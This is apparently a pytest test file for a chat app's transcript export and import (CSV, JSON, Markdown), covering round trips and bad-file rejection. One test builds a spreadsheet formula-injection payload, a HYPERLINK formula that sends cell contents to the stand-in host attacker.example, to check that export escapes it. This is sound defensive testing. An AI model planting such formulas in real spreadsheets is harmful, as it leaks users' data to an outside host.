"""Transcripts: CSV / JSON / Markdown export, import, and the exact export → import → export round trip."""

from __future__ import annotations

import csv
import io
import json
import random
import zipfile

import pytest

from chatlab.csvfile import to_csv_bytes
from chatlab.store import ERROR, INTERRUPTED, STREAMING, Store
from chatlab.transcript import (
    COLUMNS,
    MAX_IMPORT_BYTES,
    MAX_IMPORT_MESSAGES,
    ImportedTranscript,
    TranscriptError,
    export_archive,
    export_conversation,
    import_transcript,
    read_transcript,
    to_dataframe,
    to_json_bytes,
    to_markdown,
)

BOM = b"\xef\xbb\xbf"
LONG = ('长消息，含逗号, "引号" 和换行\n' * 12_000)[:200_000]
DANGEROUS = {
    "=SUM(A1)": "=SUM(A1)",
    "-1 打折": "-1 打折",
    "@cmd": "@cmd",
    "\tindented": "\tindented",
    "'quoted'": "'quoted'",
    "+1 plus": "+1 plus",
    "\rreturn": "\rreturn",
}
# What Excel, LibreOffice and Google Sheets read as the start of a formula (OWASP "CSV injection").
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
PARAMS = {
    "temperature": 0.7,
    "top_p": 0.9,
    "presence_penalty": -0.5,
    "frequency_penalty": -1.25,
    "max_tokens": 256,
    "n": 2,
    "seed": 42,
    "stop": ["\n\n", "用户："],
    "user": "tester",
}
REQUEST = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "你好"}], "temperature": 0.7}


@pytest.fixture
def store(tmp_path) -> Store:
    s = Store(tmp_path / "chat.sqlite3")
    yield s
    s.close()


def _count_conversations(store: Store) -> int:
    return len(store.list_conversations(limit=10_000))


@pytest.fixture
def conversation_id(store: Store) -> str:
    cid = store.create_conversation(
        '测试对话, with "quotes"',
        created_at="2025-01-02T03:04:05.000+00:00",
        role_name="翻译官",
        system_prompt="你是翻译。\nTranslate, carefully.",
        model="gpt-4o-mini",
        endpoint_name="local",
    )
    t = iter(f"2025-01-02T03:{m:02d}:00.000+00:00" for m in range(10, 60))
    add = store.add_message
    add(cid, "system", "系统提示", created_at=next(t))
    add(cid, "user", '你好，世界！\n第二行, with commas, "quotes"', created_at=next(t))
    add(
        cid,
        "assistant",
        'Hello, world!\n"Second" line',
        created_at=next(t),
        model="gpt-4o-mini",
        role_name="翻译官",
        system_prompt="你是翻译。",
        endpoint_name="local",
        params=PARAMS,
        request=REQUEST,
        choice_index=0,
        context_depth=4,
        prompt_tokens=12,
        completion_tokens=30,
        cached_tokens=0,
        ttft_s=0.123456789,
        duration_s=1.5,
        tokens_per_s=20.000000000000004,
        cost_usd=1.23e-05,
        finish_reason="stop",
        response_id="chatcmpl-1",
        system_fingerprint="fp_abc",
    )
    add(
        cid,
        "assistant",
        "第二个选择 (choice 2)",
        created_at=next(t),
        model="gpt-4o-mini",
        params=PARAMS,
        request=REQUEST,
        choice_index=1,
        prompt_tokens=12,
        completion_tokens=7,
        usage_estimated=True,
        finish_reason="length",
    )
    for text in DANGEROUS:
        add(cid, "user", text, created_at=next(t))
        add(
            cid,
            "assistant",
            text,
            created_at=next(t),
            params={"temperature": 0, "presence_penalty": -2.0},
            reasoning=text,
            model="=evil()",
        )
    add(cid, "user", LONG, created_at=next(t))
    add(cid, "assistant", "", created_at=next(t), status=ERROR, error='-boom, "quoted"\nline 2')
    add(cid, "assistant", "partial", created_at=next(t), status=INTERRUPTED, finish_reason=None)
    return cid


def _export(store: Store, cid: str):
    conversation = store.get_conversation(cid)
    messages = store.messages(cid)
    return conversation, messages


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# Export ------------------------------------------------------------------------------------------------


def test_dataframe_columns_and_dtypes(store, conversation_id):
    df = to_dataframe(*_export(store, conversation_id))
    assert list(df.columns) == COLUMNS
    assert len(df) == store.count_messages(conversation_id)
    assert str(df["seq"].dtype) == "Int64"
    assert str(df["seed"].dtype) == "Int64"
    assert str(df["temperature"].dtype) == "Float64"
    assert str(df["usage_estimated"].dtype) == "boolean"
    assert str(df["content"].dtype) == "str"
    first_reply = df[df["response_id"] == "chatcmpl-1"].iloc[0]
    assert first_reply["presence_penalty"] == -0.5
    assert first_reply["total_tokens"] == 42
    assert json.loads(first_reply["stop"]) == ["\n\n", "用户："]
    user_row = df[df["role"] == "user"].iloc[0]
    # Unset parameters are missing, not 0.
    assert user_row["temperature"] is df["temperature"].dtype.na_value
    assert df["temperature"].isna().sum() > 0
    assert df["stop"].isna()[0]
    assert bool(df["usage_estimated"].any())


def test_empty_conversation_dataframe(store):
    cid = store.create_conversation("empty")
    df = to_dataframe(*_export(store, cid))
    assert list(df.columns) == COLUMNS and len(df) == 0
    assert to_csv_bytes(df).startswith(BOM + b"conversation_id,")


def test_csv_bom_quoting_and_formula_neutralisation(store, conversation_id):
    data = to_csv_bytes(to_dataframe(*_export(store, conversation_id)))
    assert data.startswith(BOM)
    rows = _csv_rows(data)
    assert list(rows[0]) == COLUMNS
    assert rows[1]["content"] == '你好，世界！\n第二行, with commas, "quotes"'
    for text in DANGEROUS:
        cells = [r for r in rows if r["content"] == "'" + text]
        assert len(cells) == 2, text  # the user message and the reply
        assert all(r["reasoning"] in ("'" + text, "") for r in cells)
    assert not any(r["content"].startswith(FORMULA_PREFIXES) for r in rows)
    assert all(r["model"] in ("", "gpt-4o-mini", "'=evil()") for r in rows)
    error_row = next(r for r in rows if r["status"] == "error")
    assert error_row["error"] == '\'-boom, "quoted"\nline 2'
    # Numeric cells stay plain numbers, negative ones included.
    reply = next(r for r in rows if r["response_id"] == "chatcmpl-1")
    assert reply["presence_penalty"] == "-0.5"
    assert reply["frequency_penalty"] == "-1.25"
    assert reply["seed"] == "42" and reply["n"] == "2" and reply["max_tokens"] == "256"
    assert json.loads(reply["stop"]) == ["\n\n", "用户："]
    assert reply["usage_estimated"] == "false"
    assert float(reply["cost_usd"]) == 1.23e-05
    penalty_cells = {r["presence_penalty"] for r in rows if r["presence_penalty"]}
    assert penalty_cells == {"-0.5", "-2.0"}
    assert next(r for r in rows if r["content"] == "第二个选择 (choice 2)")["usage_estimated"] == "true"
    assert any(r["content"] == LONG for r in rows)
    user_row = rows[1]
    assert user_row["temperature"] == "" and user_row["stop"] == "" and user_row["prompt_tokens"] == ""


def test_json_export_holds_every_field(store, conversation_id):
    conversation, messages = _export(store, conversation_id)
    doc = json.loads(to_json_bytes(conversation, messages))
    assert doc["format"] == "chatlab-transcript" and doc["version"] == 1
    assert doc["conversation"]["title"] == conversation.title
    assert len(doc["messages"]) == len(messages)
    reply = next(m for m in doc["messages"] if m["response_id"] == "chatcmpl-1")
    assert reply["request"] == REQUEST
    assert reply["params"] == PARAMS
    assert "你好" in to_json_bytes(conversation, messages).decode("utf-8")  # ensure_ascii=False


def test_markdown(store, conversation_id):
    conversation, messages = _export(store, conversation_id)
    md = to_markdown(conversation, messages)
    assert md.startswith("# 测试对话")
    assert "翻译官" in md and "gpt-4o-mini" in md
    assert "你是翻译。\nTranslate, carefully." in md
    assert "### 🧑 User" in md
    assert "### 🤖 Assistant (gpt-4o-mini, choice 1)" in md
    assert "### 🤖 Assistant (gpt-4o-mini, choice 2)" in md
    for m in messages:
        assert m.content in md
    assert "(estimated)" in md
    assert "finish: length" in md
    assert "first token 0.12 s" in md and "20.0 tok/s" in md and "$0.000012" in md
    assert "status: interrupted" in md and "status: error" in md
    assert "status: complete" not in md


# Round trips -------------------------------------------------------------------------------------------


def test_csv_round_trip_is_exact(store, conversation_id):
    first = to_csv_bytes(to_dataframe(*_export(store, conversation_id)))
    new_id = import_transcript(store, first, "chat.csv")
    assert new_id != conversation_id
    second = to_csv_bytes(to_dataframe(*_export(store, new_id)))

    def without_ids(data: bytes) -> list[dict[str, str]]:
        rows = _csv_rows(data)
        for r in rows:
            del r["conversation_id"]
        return rows

    assert without_ids(second) == without_ids(first)
    assert second == first.replace(conversation_id.encode(), new_id.encode())
    # And once more from the re-exported file.
    third_id = import_transcript(store, second, "chat.csv")
    third = to_csv_bytes(to_dataframe(*_export(store, third_id)))
    assert third == first.replace(conversation_id.encode(), third_id.encode())


def test_csv_import_restores_types(store, conversation_id):
    data = to_csv_bytes(to_dataframe(*_export(store, conversation_id)))
    imported = read_transcript(data, "chat.csv")
    assert isinstance(imported, ImportedTranscript)
    original = store.messages(conversation_id)
    assert len(imported.messages) == len(original)
    reply = next(m for m in imported.messages if m["response_id"] == "chatcmpl-1")
    assert reply["params"] == PARAMS
    assert reply["usage_estimated"] is False and reply["prompt_tokens"] == 12
    assert isinstance(reply["ttft_s"], float) and reply["ttft_s"] == 0.123456789
    assert "id" not in reply and "conversation_id" not in reply
    assert [m["content"] for m in imported.messages] == [m.content for m in original]
    assert imported.conversation["title"] == '测试对话, with "quotes"'
    assert imported.conversation["id"] == conversation_id


def test_json_round_trip_is_exact(store, conversation_id):
    conversation, messages = _export(store, conversation_id)
    first = to_json_bytes(conversation, messages)
    new_id = import_transcript(store, first, "chat.json")
    assert new_id != conversation_id
    second = to_json_bytes(*_export(store, new_id))

    def without_ids_and_dates(data: bytes) -> dict:
        doc = json.loads(data)
        for name in (
            "id",
            "created_at",
            "updated_at",
            "imported_at",
            "original_created_at",
            "original_updated_at",
        ):
            del doc["conversation"][name]
        for m in doc["messages"]:
            del m["id"], m["conversation_id"]
        return doc

    # Every message exactly; the conversation's own dates are the import's (next test).
    assert without_ids_and_dates(second) == without_ids_and_dates(first)
    new = store.get_conversation(new_id)
    assert (new.title, new.role_name, new.system_prompt, new.model) == (
        conversation.title,
        conversation.role_name,
        conversation.system_prompt,
        conversation.model,
    )
    assert (new.original_created_at, new.original_updated_at) == (
        conversation.created_at,
        conversation.updated_at,
    )
    # Re-importing never clashes with the first import.
    assert import_transcript(store, first, "chat.json") not in (conversation_id, new_id)


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_an_import_is_a_new_conversation_dated_and_listed_by_the_import(store, conversation_id, fmt):
    conversation, messages = _export(store, conversation_id)
    data = (
        to_json_bytes(conversation, messages)
        if fmt == "json"
        else to_csv_bytes(to_dataframe(*_export(store, conversation_id)))
    )
    recent = store.create_conversation("made today")  # newer than the 2025 conversation in the file
    imports = [import_transcript(store, data, f"chat.{fmt}") for _ in range(3)]

    # The three imports lead the history list, newest first, each marked with its own import time...
    summaries = store.conversation_summaries()
    assert [s.id for s in summaries[:4]] == [*reversed(imports), recent]
    assert all(s.imported_at for s in summaries[:3]) and summaries[3].imported_at is None
    assert summaries[0].imported_at > summaries[1].imported_at > summaries[2].imported_at
    # ...dated by it, while the dates the file carried stay beside them and messages keep their own.
    first = store.get_conversation(imports[0])
    assert (
        first.created_at == first.updated_at == first.imported_at > store.get_conversation(recent).created_at
    )
    assert first.original_created_at.startswith("2025-01-02")
    assert first.original_updated_at.startswith("2025-01-02")
    assert [m.created_at for m in store.messages(imports[0])] == [m.created_at for m in messages]


def test_an_imported_conversation_exported_and_imported_again_keeps_its_first_dates(store, conversation_id):
    first = import_transcript(store, to_json_bytes(*_export(store, conversation_id)), "chat.json")
    exported = json.loads(to_json_bytes(*_export(store, first)))
    assert exported["conversation"]["imported_at"] == store.get_conversation(first).imported_at
    again = store.get_conversation(import_transcript(store, json.dumps(exported).encode(), "again.json"))
    original = store.get_conversation(conversation_id)
    assert (again.original_created_at, again.original_updated_at) == (
        original.created_at,
        original.updated_at,
    )
    assert again.imported_at > exported["conversation"]["imported_at"]


def test_markdown_of_an_import_shows_when_it_was_imported_and_its_original_dates(store, conversation_id):
    cid = import_transcript(store, to_json_bytes(*_export(store, conversation_id)), "chat.json")
    conversation = store.get_conversation(cid)
    md = to_markdown(conversation, store.messages(cid))
    assert f"- **Imported:** {conversation.imported_at}" in md
    assert "- **Originally created:** 2025-01-02T03:04:05.000+00:00" in md
    assert "**Created:**" not in md


def test_markdown_names_the_role_on_each_turn_where_it_changed(store):
    cid = store.create_conversation("switching", role_name="Pirate", system_prompt="Talk like a pirate.")
    for turn, (role, prompt) in enumerate(
        [("Tutor", "Teach."), ("Tutor", "Teach."), ("Pirate", "Talk like a pirate.")], start=1
    ):
        store.add_message(cid, "user", f"question {turn}", role_name=role)
        store.add_message(cid, "assistant", f"answer {turn}", role_name=role, system_prompt=prompt)
    md = to_markdown(store.get_conversation(cid), store.messages(cid))
    assert "- **Roles:** Tutor → Pirate" in md
    sections = md.split("## Role: ")
    assert [s.split("\n", 1)[0] for s in sections[1:]] == ["Tutor", "Pirate"]
    tutor, pirate = sections[1:]
    assert "Teach." in tutor and "answer 1" in tutor and "answer 2" in tutor and "answer 3" not in tutor
    assert "Talk like a pirate." in pirate and "answer 3" in pirate
    # The header no longer claims the last role's prompt for the whole conversation.
    assert "Talk like a pirate." not in sections[0]


def test_markdown_of_a_one_role_conversation_names_it_once_in_the_header(store, conversation_id):
    md = to_markdown(*_export(store, conversation_id))
    assert "- **Role:** 翻译官" in md and "## Role:" not in md


def test_json_detected_by_content(store, conversation_id):
    data = to_json_bytes(*_export(store, conversation_id))
    assert len(read_transcript(data, "download.txt").messages) == store.count_messages(conversation_id)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "'",
        "''",
        "'=x",
        "=",
        "-",
        "-0.5",
        "+",
        "@",
        "\t",
        "\r",
        "\r\n",
        "\n",
        "a'b",
        " =x",
        "  ",
        '"',
        "''x",
    ],
)
def test_any_string_survives_csv(store, text):
    cid = store.create_conversation("t")
    store.add_message(
        cid,
        "user",
        text,
        reasoning=text,
        role_name=text or None,
        params={"user": text} if text.strip() else {},
    )
    first = to_csv_bytes(to_dataframe(*_export(store, cid)))
    imported = read_transcript(first, "x.csv")
    assert imported.messages[0]["content"] == text
    assert imported.messages[0]["reasoning"] == text
    new_id = import_transcript(store, first, "x.csv")
    assert to_csv_bytes(to_dataframe(*_export(store, new_id))) == first.replace(cid.encode(), new_id.encode())


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_every_formula_prefix_is_neutralised_in_every_text_cell_and_restored_on_import(store, prefix):
    formula = prefix + 'HYPERLINK("http://attacker.example/?"&A1, "Click")'
    cid = store.create_conversation(
        formula, role_name=formula, system_prompt=formula, model=formula, endpoint_name=formula
    )
    store.add_message(
        cid, "user", formula, role_name=formula, system_prompt=formula, params={"user": formula}
    )
    store.add_message(
        cid,
        "assistant",
        formula,
        reasoning=formula,
        model=formula,
        endpoint_name=formula,
        finish_reason=formula,
        error=formula,
        response_id=formula,
        system_fingerprint=formula,
        params={"user": formula, "stop": [formula]},
    )
    data = to_csv_bytes(to_dataframe(*_export(store, cid)))

    # Export: no cell a spreadsheet would evaluate; each of ours carries the apostrophe escape instead.
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)]
    user_row, reply_row = _csv_rows(data)
    escaped = "'" + formula
    assert {k for k, v in user_row.items() if v == escaped} == {
        "conversation_title",
        "content",
        "role_name",
        "system_prompt",
        "user",
    }
    assert {k for k, v in reply_row.items() if v == escaped} == {
        "conversation_title",
        "content",
        "reasoning",
        "model",
        "endpoint_name",
        "finish_reason",
        "error",
        "response_id",
        "system_fingerprint",
        "user",
    }
    assert json.loads(reply_row["stop"]) == [formula]  # a JSON list: starts with "[", needs no escape

    # Import: every escaped cell comes back exactly as it was stored.
    new_id = import_transcript(store, data, "x.csv")
    assert store.get_conversation(new_id).title == formula
    user, reply = store.messages(new_id)
    assert user.content == reply.content == reply.reasoning == reply.error == formula
    assert (user.role_name, user.system_prompt, reply.model, reply.endpoint_name) == (formula,) * 4
    assert (reply.finish_reason, reply.response_id, reply.system_fingerprint) == (formula,) * 3
    assert user.params == {"user": formula}
    assert reply.params == {"user": formula, "stop": [formula]}


def test_a_hand_made_csv_with_escaped_cells_imports_without_the_escape(store):
    # As a spreadsheet user would type them: an apostrophe first, so the cell is text, not a formula.
    lines = ["role,content"] + [f"user,'{p}1+1" for p in "=+-@"] + ['user,"\'\t1"', 'user,"\'\r1"']
    cid = import_transcript(store, "\r\n".join(lines).encode(), "typed.csv")
    assert [m.content for m in store.messages(cid)] == [
        p + ("1+1" if p in "=+-@" else "1") for p in FORMULA_PREFIXES
    ]


def test_minimal_csv_imports(store):
    data = b"role,content\nuser,hi\nassistant,hello\nuser,again\nassistant,ok\n"
    cid = import_transcript(store, data, "my chat.csv")
    conv = store.get_conversation(cid)
    assert conv.title == "my chat"
    msgs = store.messages(cid)
    assert [(m.seq, m.turn, m.role, m.content) for m in msgs] == [
        (1, 1, "user", "hi"),
        (2, 1, "assistant", "hello"),
        (3, 2, "user", "again"),
        (4, 2, "assistant", "ok"),
    ]
    assert msgs[0].params == {} and msgs[0].status == "complete" and msgs[0].usage_estimated is False


def test_streaming_reply_imports_as_interrupted(store):
    cid = store.create_conversation("t")
    store.add_message(cid, "user", "q")
    store.add_message(cid, "assistant", "half", status=STREAMING)
    new_id = import_transcript(store, to_json_bytes(*_export(store, cid)), "t.json")
    assert store.messages(new_id)[1].status == INTERRUPTED


# Errors: a clear TranscriptError and nothing written ----------------------------------------------------


def _valid_csv(store, conversation_id) -> bytes:
    return to_csv_bytes(to_dataframe(*_export(store, conversation_id)))


def _valid_json(store, conversation_id) -> dict:
    return json.loads(to_json_bytes(*_export(store, conversation_id)))


def _bad_temperature_csv(store, cid) -> bytes:
    rows = _csv_rows(_valid_csv(store, cid))
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    for r in rows:
        if r["temperature"]:
            r["temperature"] = "5"
        writer.writerow(r)
    return out.getvalue().encode("utf-8-sig")


def _bad_temperature_json(store, cid) -> bytes:
    doc = _valid_json(store, cid)
    doc["messages"][2]["params"]["temperature"] = 5
    return json.dumps(doc).encode()


def _two_conversations_csv(store, cid) -> bytes:
    text = _valid_csv(store, cid).decode("utf-8-sig")
    header, first, rest = text.split("\r\n", 2)
    return (header + "\r\n" + first.replace(cid, "otherid", 1) + "\r\n" + rest).encode()


def _wrong_role_csv(store, cid) -> bytes:
    return b"role,content\r\nuser,hi\r\nrobot,beep\r\n"


def _wrong_shape_json(store, cid) -> bytes:
    doc = _valid_json(store, cid)
    doc["messages"] = {"not": "a list"}
    return json.dumps(doc).encode()


def _zip_of_csv(store, cid) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("chat.csv", _valid_csv(store, cid))
    return buffer.getvalue()


def _too_many_json_messages(store, cid) -> bytes:
    messages = [{"role": "user", "content": "a"}] * (MAX_IMPORT_MESSAGES + 1)
    return json.dumps({"format": "chatlab-transcript", "version": 1, "messages": messages}).encode()


@pytest.mark.parametrize(
    ("make", "filename", "message"),
    [
        (lambda s, c: b"", "x.csv", "empty"),
        (lambda s, c: BOM + b"  \r\n", "x.csv", "empty"),
        (lambda s, c: random.Random(7).randbytes(4096), "photo.csv", "not a UTF-8 text file"),
        (lambda s, c: "role,content\nuser,hi\n".encode("utf-16-le"), "x.csv", "NUL bytes"),
        (lambda s, c: b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "photo.csv", "This is a PNG image"),
        (_zip_of_csv, "history.csv", "a ZIP archive"),
        (lambda s, c: b"SQLite format 3\x00" + bytes(100), "chatlab.csv", "an SQLite database"),
        (
            lambda s, c: b"conversation_id,role,text\r\nx,user,hi\r\n",
            "x.csv",
            "missing the required column(s): content",
        ),
        (lambda s, c: b"foo,bar\r\n1,2\r\n", "x.csv", "role, content"),
        (lambda s, c: b"role,content\r\n", "x.csv", "no messages"),
        (
            lambda s, c: b'{"format": "chatlab-transcript",\n "version": 1,\n "messages": [,]}',
            "x.json",
            "line 3, column",
        ),
        (lambda s, c: b"[1, 2]", "x.json", "expected a JSON object"),
        (lambda s, c: b'{"format": "other"}', "x.json", "Not a Chat Lab transcript"),
        (lambda s, c: b'{"format": "chatlab-transcript", "version": 9, "messages": []}', "x.json", "version"),
        (_wrong_shape_json, "x.json", '"messages" must be a list'),
        (_bad_temperature_csv, "x.csv", "temperature must be between 0 and 2, got 5"),
        (_bad_temperature_json, "x.json", "temperature must be between 0 and 2, got 5"),
        (lambda s, c: b"role,content,temperature\r\nassistant,hi,hot\r\n", "x.csv", "expected a number"),
        (lambda s, c: b"role,content,stop\r\nassistant,hi,###\r\n", "x.csv", "JSON list of strings"),
        (_two_conversations_csv, "x.csv", "holds 2 conversations"),
        (_wrong_role_csv, "x.csv", "unknown role 'robot'"),
        (lambda s, c: b"role,content,seq\r\nuser,a,1\r\nuser,b,1\r\n", "x.csv", "duplicate seq"),
        (lambda s, c: b"role,content,status\r\nuser,a,weird\r\n", "x.csv", "unknown status"),
        (lambda s, c: b"x" * (MAX_IMPORT_BYTES + 1), "x.csv", "too large"),
        (
            lambda s, c: b"role,content\r\n" + b"user,a\r\n" * (MAX_IMPORT_MESSAGES + 1),
            "x.csv",
            "more than 20,000 messages",
        ),
        (_too_many_json_messages, "x.json", "holds 20,001 messages"),
        (lambda s, c: b"role,content," + b"extra," * 300_000 + b"\r\n", "x.csv", "repeats column(s): extra"),
    ],
)
def test_bad_files_raise_and_write_nothing(store, conversation_id, make, filename, message):
    data = make(store, conversation_id)
    conversations_before = _count_conversations(store)
    messages_before = store.count_messages(conversation_id)
    with pytest.raises(TranscriptError) as info:
        import_transcript(store, data, filename)
    assert message.lower() in str(info.value).lower()
    assert isinstance(info.value, ValueError)
    assert _count_conversations(store) == conversations_before
    assert store.count_messages(conversation_id) == messages_before


def test_a_utf16_csv_with_a_byte_order_mark_imports(store, conversation_id):
    # Notepad's "Unicode" and some spreadsheet exports write UTF-16 with a BOM: unambiguous, so read it.
    text = _valid_csv(store, conversation_id).decode("utf-8-sig")
    for encoding in ("utf-16", "utf-16-be"):
        data = text.encode(encoding)
        if encoding == "utf-16-be":
            data = b"\xfe\xff" + data
        new_id = import_transcript(store, data, "excel.csv")
        assert [m.content for m in store.messages(new_id)] == [
            m.content for m in store.messages(conversation_id)
        ]


def test_the_message_limit_counts_messages_not_lines(store, monkeypatch):
    monkeypatch.setattr("chatlab.transcript.importer.MAX_IMPORT_MESSAGES", 4)
    # Four messages over more lines than that (a quoted line break, blank lines) import...
    data = b'role,content\r\nuser,"two\r\nlines"\r\n\r\nassistant,b\r\n\r\nuser,c\r\nassistant,d\r\n'
    assert store.count_messages(import_transcript(store, data, "four.csv")) == 4
    # ...and a fifth is refused, in either format.
    with pytest.raises(TranscriptError, match="more than 4 messages"):
        import_transcript(store, data + b"user,e\r\n", "five.csv")
    five = {"format": "chatlab-transcript", "version": 1, "messages": [{"role": "user", "content": "x"}] * 5}
    with pytest.raises(TranscriptError, match="holds 5 messages"):
        import_transcript(store, json.dumps(five).encode(), "five.json")


def test_failed_bulk_write_leaves_nothing(store, conversation_id, monkeypatch):
    data = _valid_csv(store, conversation_id)
    before = _count_conversations(store)

    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(Store, "add_messages_bulk", broken)
    with pytest.raises(RuntimeError):
        import_transcript(store, data, "x.csv")
    assert _count_conversations(store) == before


def test_add_messages_bulk_is_one_transaction(store):
    cid = store.create_conversation("t")
    ids = store.add_messages_bulk(
        cid, [{"role": "user", "content": "a"}, {"role": "assistant", "content": "b"}]
    )
    assert len(ids) == 2
    assert [(m.seq, m.turn) for m in store.messages(cid)] == [(1, 1), (2, 1)]
    with pytest.raises(Exception):  # noqa: B017 - sqlite3.IntegrityError on the duplicate seq
        store.add_messages_bulk(
            cid, [{"role": "user", "content": "c", "seq": 9}, {"role": "user", "content": "d", "seq": 9}]
        )
    assert store.count_messages(cid) == 2


# Downloads of many --------------------------------------------------------------------------------------


def test_an_archive_holds_one_importable_file_per_conversation(store):
    ids = []
    for title in ("first", "第二个"):
        cid = store.create_conversation(title)
        store.add_message(cid, "user", f"hello from {title}")
        store.add_message(cid, "assistant", "hi", model="gpt-4o-mini", prompt_tokens=3, completion_tokens=1)
        ids.append(cid)
    for fmt in ("csv", "json"):
        archive = zipfile.ZipFile(io.BytesIO(export_archive(store, ids, fmt)))
        assert sorted(archive.namelist()) == sorted(f"chatlab-{cid}.{fmt}" for cid in ids)
        for name in archive.namelist():
            new_id = import_transcript(store, archive.read(name), name)
            assert store.count_messages(new_id) == 2
    assert export_conversation(store, ids[1], "md").decode().startswith("# 第二个")
    with pytest.raises(ValueError, match="unknown export format"):
        export_conversation(store, ids[0], "xlsx")


def test_a_binary_file_is_refused_and_nothing_is_written(store):
    before = _count_conversations(store)
    with pytest.raises(TranscriptError, match="NUL bytes"):
        import_transcript(store, b"\x00\x01binary", "evil.csv")
    assert _count_conversations(store) == before
